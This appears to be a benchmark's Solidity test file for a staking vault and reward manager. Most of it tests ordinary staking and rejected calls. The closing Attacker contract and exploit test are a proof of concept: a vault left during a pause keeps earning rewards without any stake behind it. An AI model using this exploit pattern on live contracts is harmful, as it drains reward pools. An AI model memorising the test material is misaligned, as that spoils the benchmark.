// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.30;

// assay-canary-00d71468-5d48-46b3-91e3-1bf828325c0d

import "./StakeVault.sol";
import "./context/StakeManager.sol";
import "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";
import "@openzeppelin/contracts@5.4.0/token/ERC20/extensions/ERC20Permit.sol";

interface Vm {
    function addr(uint256 key) external returns (address);
    function prank(address who) external;
    function startPrank(address who) external;
    function stopPrank() external;
    function sign(uint256 key, bytes32 digest) external returns (uint8 v, bytes32 r, bytes32 s);
    function warp(uint256 timestamp) external;
    function expectRevert() external;
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
}

contract Gov is ERC20Permit {
    mapping(address => address) public delegates;

    constructor() ERC20("Gov", "GOV") ERC20Permit("Gov") {
        _mint(msg.sender, 1_000_000 ether);
    }

    function delegate(address to) external {
        delegates[msg.sender] = to;
    }
}

contract Reward is ERC20 {
    constructor() ERC20("Reward", "RWD") {
        _mint(msg.sender, 5_000_000 ether);
    }
}

/// Takes entries, and breaks off without a word when one is to end.
contract MuteManager {
    fallback() external {
        if (msg.sig == IStakeManager.exit.selector) revert();
    }
}

/// A staker like any other.
contract Attacker {
    StakeVault private vault;

    function stake(VaultFactory factory, uint256 amount) external {
        vault = factory.build();
        factory.gov().approve(address(vault), amount);
        vault.stake(amount, 14 days);
    }

    function leave() external {
        vault.leave(address(this));
    }

    function claim() external {
        vault.claim(address(this));
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    uint256 private constant START = 1_767_000_000;
    uint256 private constant KEY = 0xA9A;
    address private constant GUARDIAN = address(0x6A2D);
    address private constant MIA = address(0x317A);
    address private constant BOT = address(0xB07);

    Gov private gov;
    Reward private reward;
    StakeManager private manager;
    VaultFactory private factory;
    StakeVault private vault;
    StakeVault private hers;
    Attacker private ghost;
    address private ana;

    function setUp() public {
        vm.warp(START);
        gov = new Gov();
        reward = new Reward();
        manager = new StakeManager(reward, GUARDIAN);
        factory = new VaultFactory(gov, manager);
        manager.setFactory(IVaultFactory(address(factory)));
        reward.approve(address(manager), type(uint256).max);
        manager.fund(4_320_000 ether, 1000 days);
        gov.transfer(MIA, 300_000 ether);
        vm.startPrank(MIA);
        vault = factory.build();
        gov.approve(address(vault), type(uint256).max);
        vault.stake(200_000 ether, 14 days);
        vm.stopPrank();
        ana = vm.addr(KEY);
        gov.transfer(ana, 100_000 ether);
        vm.prank(ana);
        hers = factory.build();
        ghost = new Attacker();
        gov.transfer(address(ghost), 100_000 ether);
        ghost.stake(factory, 100_000 ether);
        vm.warp(START + 20 days);
        vm.prank(GUARDIAN);
        manager.pause();
    }

    /// While it is in use the manager counts no more than the vaults hold.
    function entriesAreBacked() public view returns (bool) {
        uint256 inside = gov.balanceOf(address(vault)) + gov.balanceOf(address(hers));
        inside += gov.balanceOf(factory.builtBy(address(ghost))[0]);
        return manager.retiredAt() != 0 || manager.totalStaked() <= inside;
    }

    function permit(uint256 amount) private returns (uint8 v, bytes32 r, bytes32 s) {
        bytes32 what = keccak256("Permit(address owner,address spender,uint256 value,uint256 nonce,uint256 deadline)");
        bytes32 hash = keccak256(abi.encode(what, ana, address(hers), amount, gov.nonces(ana), START + 60 days));
        return vm.sign(KEY, keccak256(abi.encodePacked("\x19\x01", gov.DOMAIN_SEPARATOR(), hash)));
    }

    function near(uint256 a, uint256 b) private pure returns (bool) {
        return a <= b && a + 1e9 > b;
    }

    function test_Regular() public {
        require(entriesAreBacked() && manager.rate() == 0.05 ether, "at first");
        require(factory.count() == 3 && vault.lockLeft() == 0, "built");
        // Twenty days of the stream, and the part of the first vault; claims go on during a pause.
        require(near(vault.pending(), 57_600 ether), "two thirds");
        require(factory.pendingOf(MIA) == vault.pending(), "sum");
        vm.prank(MIA);
        require(near(vault.claim(MIA), 57_600 ether) && near(reward.balanceOf(MIA), 57_600 ether), "claimed");

        // The pause is over after three days. A part is taken out, then the rest.
        vm.warp(START + 23 days);
        vm.startPrank(MIA);
        vault.unstake(50_000 ether, MIA);
        require(vault.staked() == 150_000 ether && manager.totalStaked() == 250_000 ether, "in part");
        vault.delegate(BOT);
        require(gov.delegates(address(vault)) == BOT, "votes");
        vault.prolong(30 days);
        require(vault.lockLeft() == 30 days, "longer");
        vault.stake(10_000 ether, 7 days);
        require(vault.lockedUntil() == START + 53 days && vault.staked() == 160_000 ether, "not shorter");
        vault.setPayee(BOT);
        vm.stopPrank();
        ghost.leave();
        require(gov.balanceOf(address(ghost)) == 100_000 ether && manager.totalStaked() == 160_000 ether, "left");
        ghost.claim();
        uint256 had = reward.balanceOf(address(ghost));
        require(near(had, 33_120 ether), "earned until leaving");
        vm.warp(START + 30 days);
        ghost.claim();
        require(reward.balanceOf(address(ghost)) == had, "and no longer");
        require(near(vault.harvest(), 38_880 ether) && near(reward.balanceOf(BOT), 38_880 ether), "harvest");

        // A staker with a permit, which someone else may have used up.
        (uint8 v, bytes32 r, bytes32 s) = permit(40_000 ether);
        vm.startPrank(ana);
        hers.stakeWithPermit(40_000 ether, 730 days, START + 60 days, v, r, s);
        (, uint256 bonus,,,) = manager.entries(address(hers));
        require(bonus == 40_000 ether && hers.staked() == 40_000 ether, "a bonus for two years");
        (v, r, s) = permit(1_000 ether);
        gov.permit(ana, address(hers), 1_000 ether, START + 60 days, v, r, s);
        hers.stakeWithPermit(1_000 ether, 7 days, START + 60 days, v, r, s);
        gov.transfer(address(hers), 5 ether);
        require(hers.sweep(gov, ana) == 5 ether && gov.balanceOf(ana) == 59_000 ether, "stray only");
        vm.stopPrank();

        // Another pause, and more rewards.
        manager.pause();
        vm.warp(START + 33 days);
        manager.fund(100_000 ether, 990 days);
        manager.setGuardian(BOT);
        factory.setClosed(true);

        // A retired manager lets stakes go and pays what was earned.
        had = reward.balanceOf(address(this));
        vm.warp(START + 53 days);
        manager.retire();
        require(reward.balanceOf(address(this)) > had + 4_000_000 ether, "the rest");
        uint256 due = vault.pending();
        vm.warp(START + 60 days);
        vm.prank(MIA);
        require(vault.leave(MIA) == 160_000 ether && gov.balanceOf(MIA) == 300_000 ether, "stake is back");
        require(vault.harvest() == due && due > 0, "earned until retirement");
        require(manager.totalStaked() == 201_000 ether, "entries are frozen");

        // Hand-overs.
        vm.startPrank(MIA);
        vault.transferOwnership(ana);
        vm.stopPrank();
        vm.startPrank(ana);
        vault.acceptOwnership();
        require(vault.owner() == ana && vault.payee() == address(0), "handed over");
        vault.renounceOwnership();
        vm.stopPrank();
        factory.transferOwnership(BOT);
        manager.transferOwnership(BOT);
        vm.startPrank(BOT);
        factory.acceptOwnership();
        factory.renounceOwnership();
        manager.acceptOwnership();
        manager.renounceOwnership();
        vm.stopPrank();
    }

    // What is refused, each from the state after setUp().

    function stranger() private {
        vm.prank(BOT);
        vm.expectRevert(abi.encodeWithSignature("OwnableUnauthorizedAccount(address)", BOT));
    }

    function test_RefusesStrangers() public {
        vm.warp(START + 30 days);
        gov.transfer(BOT, 10 ether);
        gov.transfer(address(vault), 1 ether);
        vm.prank(BOT);
        gov.approve(address(vault), 10 ether);
        stranger();
        vault.stake(1 ether, 7 days);
        stranger();
        vault.stakeWithPermit(1 ether, 7 days, 0, 0, 0, 0);
        stranger();
        vault.prolong(7 days);
        stranger();
        vault.unstake(1 ether, BOT);
        stranger();
        vault.leave(BOT);
        stranger();
        vault.claim(BOT);
        stranger();
        vault.setPayee(BOT);
        stranger();
        vault.delegate(BOT);
        stranger();
        vault.sweep(gov, BOT);
        stranger();
        vault.transferOwnership(BOT);
        stranger();
        vault.acceptOwnership();
        stranger();
        vault.renounceOwnership();
        stranger();
        factory.setClosed(true);
        stranger();
        factory.transferOwnership(BOT);
    }

    function test_RefusesStrangersAtTheManager() public {
        vm.warp(START + 30 days);
        vm.expectRevert(IStakeManager.NotVault.selector);
        manager.enter(1 ether, START + 60 days);
        vm.expectRevert(IStakeManager.NotVault.selector);
        manager.exit(0);
        vm.expectRevert(IStakeManager.NotVault.selector);
        manager.claim(BOT);
        stranger();
        manager.fund(1 ether, 10 days);
        stranger();
        manager.retire();
        stranger();
        manager.setFactory(IVaultFactory(BOT));
        stranger();
        manager.setGuardian(BOT);
        stranger();
        manager.transferOwnership(BOT);
        vm.prank(BOT);
        vm.expectRevert("not guardian");
        manager.pause();
    }

    function test_RefusesStakes() public {
        vm.warp(START + 30 days);
        vm.startPrank(MIA);
        vm.expectRevert(StakeVault.NothingStaked.selector);
        vault.stake(0, 7 days);
        vm.expectRevert(StakeVault.BadLock.selector);
        vault.stake(1 ether, 7 days - 1);
        vm.expectRevert(StakeVault.BadLock.selector);
        vault.stake(1 ether, 730 days + 1);
        vm.expectRevert(StakeVault.BadLock.selector);
        vault.prolong(730 days + 1);
        vault.prolong(30 days);
        vm.expectRevert(StakeVault.BadLock.selector);
        vault.prolong(30 days);
        vm.expectRevert(abi.encodeWithSelector(StakeVault.StillLocked.selector, START + 60 days));
        vault.unstake(1 ether, MIA);
        vm.expectRevert(abi.encodeWithSelector(StakeVault.StillLocked.selector, START + 60 days));
        vault.leave(MIA);
        vm.expectRevert("nothing to sweep");
        vault.sweep(gov, MIA);
        vm.stopPrank();
        vm.expectRevert("no payee");
        vault.harvest();
        vm.startPrank(ana);
        vm.expectRevert(StakeVault.NothingStaked.selector);
        hers.prolong(7 days);
        vm.expectRevert(StakeVault.NothingStaked.selector);
        hers.leave(ana);
        vm.stopPrank();
    }

    function test_RefusesUnstakes() public {
        vm.warp(START + 30 days);
        vm.startPrank(MIA);
        vm.expectRevert("bad amount");
        vault.unstake(0, MIA);
        vm.expectRevert("bad amount");
        vault.unstake(200_000 ether + 1, MIA);
        vm.expectRevert("bad receiver");
        vault.unstake(1 ether, address(vault));
        vm.expectRevert("bad receiver");
        vault.leave(address(vault));
        vm.stopPrank();
    }

    /// What the manager refuses, the vault refuses too.
    function test_RefusesWhilePaused() public {
        vm.startPrank(MIA);
        vm.expectRevert(abi.encodeWithSelector(IStakeManager.Paused.selector, START + 23 days));
        vault.stake(1 ether, 7 days);
        vm.expectRevert(abi.encodeWithSelector(IStakeManager.Paused.selector, START + 23 days));
        vault.prolong(7 days);
        vm.expectRevert(abi.encodeWithSelector(IStakeManager.Paused.selector, START + 23 days));
        vault.unstake(1 ether, MIA);
        vm.stopPrank();
        vm.expectRevert(abi.encodeWithSelector(IStakeManager.Paused.selector, START + 23 days));
        manager.fund(1 ether, 10 days);
        vm.expectRevert(abi.encodeWithSelector(IStakeManager.Paused.selector, START + 23 days));
        manager.pause();
        vm.warp(START + 27 days - 1);
        vm.expectRevert("too soon");
        manager.pause();
    }

    /// A manager that breaks off without a reason keeps the stake in its vault.
    function test_RefusesToLeaveAMuteManager() public {
        StakeVault own = new StakeVault(gov, IStakeManager(address(new MuteManager())), address(this));
        gov.approve(address(own), 1 ether);
        own.stake(1 ether, 7 days);
        vm.warp(START + 30 days);
        vm.expectRevert(StakeVault.ManagerRefused.selector);
        own.leave(address(this));
        vm.expectRevert();
        own.unstake(1 ether, address(this));
    }

    function test_RefusesSetups() public {
        vm.expectRevert("zero address");
        new VaultFactory(IERC20(address(0)), manager);
        vm.expectRevert("zero address");
        new VaultFactory(gov, IStakeManager(address(0)));
        vm.expectRevert(abi.encodeWithSignature("OwnableInvalidOwner(address)", address(0)));
        new StakeVault(gov, manager, address(0));
        vm.expectRevert("zero address");
        new StakeManager(IERC20(address(0)), GUARDIAN);
        vm.expectRevert("zero address");
        new StakeManager(reward, address(0));
        StakeManager other = new StakeManager(reward, GUARDIAN);
        vm.expectRevert("factory");
        other.setFactory(IVaultFactory(address(0)));
        vm.expectRevert("factory");
        manager.setFactory(IVaultFactory(BOT));
        vm.expectRevert("zero address");
        manager.setGuardian(address(0));
    }

    function test_RefusesVaultsAndStreams() public {
        vm.warp(START + 30 days);
        for (uint256 i = 0; i < 8; i++) {
            factory.build();
        }
        vm.expectRevert("too many");
        factory.build();
        factory.setClosed(true);
        vm.prank(BOT);
        vm.expectRevert("closed");
        factory.build();
        vm.expectRevert("period");
        manager.fund(1 ether, 1 days - 1);
        vm.expectRevert("period");
        manager.fund(1 ether, 1095 days + 1);
        manager.retire();
        vm.expectRevert(IStakeManager.Retired.selector);
        manager.retire();
        vm.expectRevert(IStakeManager.Retired.selector);
        manager.fund(1 ether, 10 days);
        vm.expectRevert(IStakeManager.Retired.selector);
        manager.pause();
        vm.startPrank(MIA);
        vm.expectRevert(IStakeManager.Retired.selector);
        vault.stake(1 ether, 7 days);
        vm.expectRevert(IStakeManager.Retired.selector);
        vault.unstake(1 ether, MIA);
        vm.stopPrank();
        StakeManager other = new StakeManager(reward, GUARDIAN);
        vm.expectRevert("no rate");
        other.fund(0, 10 days);
    }

    function exploit() public {
        ghost.leave();
        vm.warp(START + 120 days);
        ghost.claim();
    }

    function test_Exploit() public {
        exploit();
        require(!entriesAreBacked(), "entry without a stake");
        require(gov.balanceOf(address(ghost)) == 100_000 ether, "stake is out");
        require(reward.balanceOf(address(ghost)) > 170_000 ether, "still earning");
    }

    function target() public view returns (address) {
        return factory.builtBy(address(ghost))[0];
    }

    function attacker() public view returns (address) {
        return address(ghost);
    }
}
